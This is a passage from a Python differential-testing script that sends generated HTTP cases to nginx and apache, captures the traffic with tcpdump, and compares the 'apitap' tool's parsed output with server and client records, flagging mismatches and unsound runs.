                env.stop(tcpd, signal.SIGINT)
                tlog.close()
                with open(pcap + ".tcpdump.log") as t:
                    txt = t.read()
                m = re.search(r"(\d+) packets? dropped by kernel", txt)
                if not m or m.group(1) != "0":
                    drops += 1
                    log("warning: tcpdump drops in %s: %s" % (pcap, txt.strip().splitlines()[-1:]))
                pcaps.append(pcap)
                done = min(args.cases, b0 + BATCH)
                log("batch %d: %d cases sent (%d connections)" % (b0 // BATCH, done, len(plan)))
        time.sleep(0.5)
        for s, p in procs.items():
            env.stop(p, signal.SIGQUIT if s == "nginx" else signal.SIGTERM)
        with open(os.path.join(work, "pcaps.json"), "w") as f:
            json.dump({"pcaps": pcaps, "capture_drops": drops, "seed": args.seed, "cases": done,
                       "servers": servers}, f)
    except KeyboardInterrupt as e:
        log("interrupted: %s" % e)
        return 2
    except (RuntimeError, subprocess.TimeoutExpired) as e:
        log("error: %s" % e)
        return 2
    finally:
        env.cleanup()
    return compare_only(work, args, t_start)


def compare_only(work, args, t_start=None):
    t_start = t_start or time.monotonic()
    with open(os.path.join(work, "pcaps.json")) as f:
        meta = json.load(f)
    apitap = os.path.abspath(args.apitap)
    out = os.path.join(work, "apitap.jsonl")
    try:
        run_apitap(apitap, meta["pcaps"], out)
    except (RuntimeError, subprocess.TimeoutExpired) as e:
        log("error: %s" % e)
        return 1
    summary, groups, isolated, examples, details = compare(work, out, os.path.join(work, "cases.jsonl"),
                                                 os.path.join(work, "client-results.jsonl"))
    summary = {s: v for s, v in summary.items() if s in meta["servers"]}
    with open(os.path.join(work, "disagreements.jsonl"), "w") as f:
        for d in details:
            f.write(json.dumps(d) + "\n")
    result = {"seed": meta["seed"], "cases": meta["cases"], "capture_drops": meta["capture_drops"],
              "apitap": apitap, "seconds": round(time.monotonic() - t_start, 1), "servers": summary,
              "single_cause": [{"server": s, "kind": k, "feature": t, "count": n}
                               for (s, k, t), n in isolated.most_common()],
              "groups": [{"server": s, "kind": k, "feature": t, "count": n} for (s, k, t), n in groups.most_common()]}
    with open(os.path.join(work, "summary.json"), "w") as f:
        json.dump(result, f, indent=1)
    if args.summary:
        shutil.copy(os.path.join(work, "summary.json"), args.summary)
    print("seed %d, %d cases per server, apitap %s, work dir %s" % (meta["seed"], meta["cases"], apitap, work))
    print_summary(summary, groups, isolated)
    bad = False
    for s, st in summary.items():
        if st["missing"] or st["mismatched"] or st["server_unparsed_silent"]:
            bad = True
        if st["logged"] == 0 or st["client_errors"]:
            log("unsound run: %s: %d requests logged, %d client socket errors" % (s, st["logged"], st["client_errors"]))
            bad = True
    if meta["capture_drops"]:
        log("unsound run: tcpdump dropped packets in %d captures" % meta["capture_drops"])
        bad = True
    if not args.keep and not args.work:
        shutil.rmtree(work, ignore_errors=True)
    return 1 if bad else 0


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--cases", type=int, default=300, help="cases per server (one connection each)")
    ap.add_argument("--servers", default="nginx,apache")
    ap.add_argument("--apitap", default=os.path.join(HERE, "..", "..", "target", "release", "apitap"))
    ap.add_argument("--jobs", type=int, default=8, help="connections in flight")
    ap.add_argument("--tag", default="df-%d" % (os.getpid() % 100000), help="namespace prefix df-...")
    ap.add_argument("--work", help="work directory (kept); default a temporary one, removed unless --keep")
    ap.add_argument("--keep", action="store_true")
    ap.add_argument("--time-limit", type=float, default=3600, help="stop starting batches after this (s)")
    ap.add_argument("--summary", help="copy summary.json here")
    ap.add_argument("--compare-only", metavar="WORKDIR", help="re-run apitap and the comparison on a kept run")
    ap.add_argument("--client", nargs=2, metavar=("PLAN", "RESULTS"), help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.client:
        return client_main(args.client[0], args.client[1], args.jobs)
    if args.compare_only:
        args.keep = True
        return compare_only(os.path.abspath(args.compare_only), args)
    return run(args)


if __name__ == "__main__":
    sys.exit(main())
